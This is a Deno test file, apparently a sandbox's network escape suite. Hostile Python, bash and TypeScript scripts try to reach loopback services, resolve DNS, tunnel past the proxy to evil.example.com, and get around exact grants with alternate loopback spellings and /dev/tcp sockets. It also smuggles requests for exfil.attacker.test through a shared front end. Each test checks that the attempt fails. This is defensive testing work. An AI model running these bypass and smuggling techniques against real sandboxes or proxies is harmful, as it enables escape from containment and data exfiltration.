/**
 * The escape suite, network: hostile scripts in Python, bash and TypeScript try to reach a host
 * service on loopback, resolve names, get past the proxy, or reach loopback through an exact grant
 * of it; the granted cases still work. Each attack asserts that the attempt failed AND that the
 * host is unchanged (see _escape.ts).
 */
import assert from "node:assert/strict";
import { attack, escapeSuite, py, SERVICE_PORT, serviceHits, sh, ts } from "./_escape.ts";
import { PermissionError } from "../../src/errors.ts";

// --- network (the one granted case comes last: until then the service must see no request) ----
for (
  const [language, script] of [
    [
      "python",
      py(`import socket
s = socket.create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
breached = b"host service" in s.recv(1000)`),
    ],
    [
      "bash",
      sh(
        `if exec 3<>/dev/tcp/127.0.0.1/${SERVICE_PORT}; then printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; grep -q "host service" <&3 && breached=1; fi`,
      ),
    ],
    [
      "typescript",
      ts(`const r = await fetch("http://127.0.0.1:${SERVICE_PORT}/");
breached = (await r.text()).includes("host service");`),
    ],
  ] as const
) {
  attack({
    name: "connect to a host service on loopback",
    language,
    script,
    hostUnchanged() {
      assert.equal(serviceHits, 0, "the host service was reached");
      return Promise.resolve();
    },
  });
}

attack({
  name: "DNS lookup",
  language: "python",
  script: py(`import socket
breached = len(socket.getaddrinfo("registry.npmjs.org", 443)) > 0`),
});
attack({
  name: "DNS lookup",
  language: "bash",
  script: sh(`getent hosts registry.npmjs.org >/dev/null 2>&1 && breached=1`),
});
attack({
  name: "DNS lookup",
  language: "typescript",
  script: ts(`breached = (await Deno.resolveDns("registry.npmjs.org", "A")).length > 0;`),
});
attack({
  name: "reach a non-granted host through the proxy",
  language: "python",
  needs: { network: ["api.granted.test"] },
  allow: { network: ["api.granted.test"] },
  script: py(`import urllib.request
for url in ["http://evil.example.com/", "http://127.0.0.1:${SERVICE_PORT}/", "http://granted.test/"]:
    try:
        urllib.request.urlopen(url, timeout=5).read()
        breached = True
        detail = url
    except Exception as exc:
        detail += " " + repr(exc)[:80]`),
  hostUnchanged() {
    assert.equal(serviceHits, 0, "the host service was reached");
    return Promise.resolve();
  },
});
attack({
  name: "reach a non-granted host with curl through the proxy (CONNECT)",
  language: "bash",
  needs: { network: ["api.granted.test"] },
  allow: { network: ["api.granted.test"] },
  script: sh(
    `if command -v curl >/dev/null; then curl -sf --max-time 5 https://evil-granted.test/ >/dev/null && breached=1; fi
exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT evil.example.com:443 HTTP/1.1\\r\\nHost: evil.example.com:443\\r\\n\\r\\n' >&3 && head -1 <&3 | grep -q " 200" && breached=1`,
  ),
});
attack({
  name: "a granted host through the proxy still works",
  language: "python",
  needs: { network: [`127.0.0.1:${SERVICE_PORT}`] },
  allow: { privateNetwork: [`127.0.0.1:${SERVICE_PORT}`] },
  script: py(`import urllib.request
body = urllib.request.urlopen("http://127.0.0.1:${SERVICE_PORT}/", timeout=10).read().decode()
detail = body`),
  granted(o) {
    assert.equal(o.detail, "host service says hi");
  },
});

// --- this machine's own addresses are the host, whatever range they lie in ----------------------
/** A host service on every interface, as a database or a dev server often is. */
let allInterfacesHits = 0;
const allInterfaces = Deno.listen({ hostname: "0.0.0.0", port: 0 });
const ALL_PORT = allInterfaces.addr.port;
(async () => {
  for await (const conn of allInterfaces) {
    allInterfacesHits++;
    (async () => {
      try {
        await conn.read(new Uint8Array(1024));
        await conn.write(
          new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\nhost-wide service secret"),
        );
      } catch {
        // the client went away
      } finally {
        conn.close();
      }
    })();
  }
})();
/** One of this machine's IPv4 addresses other than loopback (its own, public or not). */
const OWN_ADDRESS = Deno.networkInterfaces().find((i) =>
  i.family === "IPv4" && !i.address.startsWith("127.")
)?.address;
if (OWN_ADDRESS === undefined) {
  console.warn(
    "escape_network_test: no interface address but loopback; the host's own address is not tried",
  );
} else {
  for (
    const [language, script] of [
      [
        "python",
        py(`import urllib.request
detail = urllib.request.urlopen("http://${OWN_ADDRESS}:${ALL_PORT}/", timeout=5).read().decode()
breached = "secret" in detail`),
      ],
      [
        "typescript",
        ts(`const r = await fetch("http://${OWN_ADDRESS}:${ALL_PORT}/");
detail = await r.text();
breached = detail.includes("secret");`),
      ],
    ] as const
  ) {
    attack({
      name:
        "reach a host service on every interface through the machine's own address, granted as a plain host",
      language,
      needs: { network: [`${OWN_ADDRESS}:${ALL_PORT}`] },
      allow: { network: [`${OWN_ADDRESS}:${ALL_PORT}`] },
      script,
      blockedBy: [PermissionError],
      hostUnchanged() {
        assert.equal(allInterfacesHits, 0, "the host-wide service was reached");
        return Promise.resolve();
      },
    });
  }
}

// --- the proxy decides on resolved addresses: an exact grant is no way to loopback -------------
/** A service on loopback that counts the connections it accepts. */
let privateHits = 0;
const privateService = Deno.listen({ hostname: "127.0.0.1", port: 0 });
const PRIVATE_PORT = privateService.addr.port;
(async () => {
  for await (const conn of privateService) {
    privateHits++;
    (async () => {
      try {
        await conn.read(new Uint8Array(4096));
        const body = "private service says hi\n";
        await conn.write(
          new TextEncoder().encode(
            `HTTP/1.0 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
          ),
        );
      } catch {
        // the client went away
      } finally {
        conn.close();
      }
    })();
  }
})().catch(() => {});
globalThis.addEventListener("unload", () => privateService.close());

function privateUnreached(): Promise<void> {
  assert.equal(privateHits, 0, "the loopback service was reached");
  return Promise.resolve();
}

/** Python fetching `url` the way a script would (urllib honours the proxy variables). */
function pyFetch(url: string): string {
  return py(`import urllib.request
try:
    body = urllib.request.urlopen(${JSON.stringify(url)}, timeout=5).read()
    breached = b"private service" in body
    detail = body.decode(errors="replace")[:80]
except Exception as exc:
    detail = repr(exc)[:200]`);
}

for (
  const [grant, url] of [
    [`127.0.0.1:${PRIVATE_PORT}`, `http://127.0.0.1:${PRIVATE_PORT}/`],
    [`localhost:${PRIVATE_PORT}`, `http://localhost:${PRIVATE_PORT}/`],
    [`[::ffff:127.0.0.1]:${PRIVATE_PORT}`, `http://[::ffff:127.0.0.1]:${PRIVATE_PORT}/`],
    [`2130706433:${PRIVATE_PORT}`, `http://2130706433:${PRIVATE_PORT}/`],
  ] as const
) {
  attack({
    name: `reach a loopback service through an exact grant of ${grant.replace(/:\d+$/, "")}`,
    language: "python",
    needs: { network: [grant] },
    allow: { network: [grant] },
    script: pyFetch(url),
    hostUnchanged: privateUnreached,
  });
}
attack({
  name: "reach a loopback service through an exact grant of 127.0.0.1 (curl)",
  language: "bash",
  needs: { network: [`127.0.0.1:${PRIVATE_PORT}`] },
  allow: { network: [`127.0.0.1:${PRIVATE_PORT}`] },
  // curl honours http_proxy; without curl, the request goes to the proxy (or direct) by hand.
  script: sh(`url=http://127.0.0.1:${PRIVATE_PORT}/
if command -v curl >/dev/null; then
  body=$(curl -s --max-time 5 "$url")
else
  hp=\${http_proxy:-}; hp=\${hp#http://}; hp=\${hp%/}
  if [ -n "$hp" ]; then host=\${hp%:*}; port=\${hp##*:}; target=$url
  else host=127.0.0.1; port=${PRIVATE_PORT}; target=/; fi
  body=$(exec 3<>"/dev/tcp/$host/$port" && printf 'GET %s HTTP/1.0\r\n\r\n' "$target" >&3 && cat <&3)
fi
case "$body" in *"private service"*) breached=1 ;; esac
detail=$(printf %s "$body" | head -c 120 | tr -d '\r\n')`),
  hostUnchanged: privateUnreached,
});
for (const grant of [`127.0.0.1:${PRIVATE_PORT}`, `localhost:${PRIVATE_PORT}`]) {
  attack({
    name: `reach a loopback service through an exact grant of ${grant.replace(/:\d+$/, "")}`,
    language: "typescript",
    needs: { network: [grant] },
    allow: { network: [grant] },
    script: ts(`const r = await fetch("http://${grant}/");
breached = (await r.text()).includes("private service");`),
    hostUnchanged: privateUnreached,
  });
}

// --- granted cases still work ------------------------------------------------------------------
for (const language of ["python", "typescript"] as const) {
  attack({
    name: "a loopback service granted with --allow-private-net is reachable",
    language,
    needs: { network: [`127.0.0.1:${PRIVATE_PORT}`] },
    allow: { privateNetwork: [`127.0.0.1:${PRIVATE_PORT}`] },
    script: language === "python"
      ? pyFetch(`http://127.0.0.1:${PRIVATE_PORT}/`)
      : ts(`const r = await fetch("http://127.0.0.1:${PRIVATE_PORT}/");
detail = await r.text();
breached = detail.includes("private service");`),
    granted(o) {
      assert.equal(o.breached, true, `not reached: ${o.detail}`);
      assert.ok(privateHits > 0);
    },
  });
}

// --- a grant names one site, not every site at its address ---------------------------------------
/**
 * A front end shared by many sites (a CDN, a shared host), on loopback: it routes by the TLS
 * server name or the `Host` header, and records every connection's first bytes.
 */
const frontSeen: string[] = [];
const front = Deno.listen({ hostname: "127.0.0.1", port: 0 });
const FRONT_PORT = front.addr.port;
(async () => {
  for await (const conn of front) {
    (async () => {
      try {
        const buffer = new Uint8Array(8192);
        const n = await conn.read(buffer);
        if (n) frontSeen.push(new TextDecoder("latin1").decode(buffer.subarray(0, n)));
        await conn.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\nfront end says hi"));
      } catch {
        // the client went away
      } finally {
        conn.close();
      }
    })();
  }
})().catch(() => {});
globalThis.addEventListener("unload", () => front.close());
attack({
  name: "reach another site at a granted host's address: a foreign TLS server name, then Host",
  language: "python",
  needs: { network: [`localhost:${FRONT_PORT}`] },
  allow: { privateNetwork: [`localhost:${FRONT_PORT}`] },
  script: py(`import socket, ssl
proxy = (os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"]).split("//", 1)[1].rstrip("/")
host, port = proxy.rsplit(":", 1)
def tunnel():
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(b"CONNECT localhost:${FRONT_PORT} HTTP/1.1\\r\\n\\r\\n")
    detail_ = s.recv(200)
    return s
s = tunnel()
try:
    ssl.create_default_context().wrap_socket(s, server_hostname="exfil.attacker.test")
except Exception as exc:
    detail += "tls: " + repr(exc)[:60]
s = tunnel()
s.sendall(b"GET /exfil?key=SECRET HTTP/1.1\\r\\nHost: exfil.attacker.test\\r\\n\\r\\n")
answer = s.recv(200)
breached = b"front end says hi" in answer
detail += " http: " + answer.decode(errors="replace")[:60]`),
  hostUnchanged() {
    assert.ok(
      !frontSeen.some((bytes) => bytes.includes("exfil.attacker.test")),
      `the front end was asked for another site: ${JSON.stringify(frontSeen)}`,
    );
    return Promise.resolve();
  },
});

attack({
  name:
    "reach another site at a granted host's address by a plain request whose body is a second one",
  language: "python",
  needs: { network: [`localhost:${FRONT_PORT}`] },
  allow: { privateNetwork: [`localhost:${FRONT_PORT}`] },
  // A header line a server does not take for a field ends its head there; the body, sent as
  // declared, was then read as a second request, for another site (Python's http.server).
  script: py(`import socket
proxy = os.environ["http_proxy"].split("//", 1)[1].rstrip("/")
host, port = proxy.rsplit(":", 1)
second = b"GET /exfil HTTP/1.1\\r\\nHost: exfil.attacker.test\\r\\n\\r\\n"
s = socket.create_connection((host, int(port)), timeout=5)
s.sendall(b"POST http://localhost:${FRONT_PORT}/ HTTP/1.1\\r\\nFoo Bar: x\\r\\n" +
          b"Content-Length: " + str(len(second)).encode() + b"\\r\\n\\r\\n" + second +
          b"GET http://localhost:${FRONT_PORT}/ HTTP/1.1\\r\\nHost: exfil.attacker.test\\r\\n\\r\\n")
# The first request is the granted one: the front end's answer says nothing; what it was asked
# for does (hostUnchanged).
detail = s.recv(200).decode(errors="replace")[:60]`),
  hostUnchanged() {
    assert.ok(
      !frontSeen.some((bytes) => bytes.includes("exfil.attacker.test")),
      `the front end was asked for another site: ${JSON.stringify(frontSeen)}`,
    );
    return Promise.resolve();
  },
});

Deno.test(escapeSuite("network", { atLeast: { sandbox: 20, noSandbox: 5 } }));
